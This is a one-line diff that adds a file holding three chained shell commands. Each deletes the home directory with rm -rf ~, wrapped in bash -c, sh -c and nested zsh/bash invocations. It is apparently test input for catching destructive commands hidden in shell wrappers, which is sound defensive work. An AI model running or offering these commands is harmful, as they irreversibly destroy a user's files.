@@ -1,0 +1,1 @@
+bash -c 'rm -rf ~'; sh -c "rm -rf ~"; zsh -c 'bash -c "rm -rf ~"'
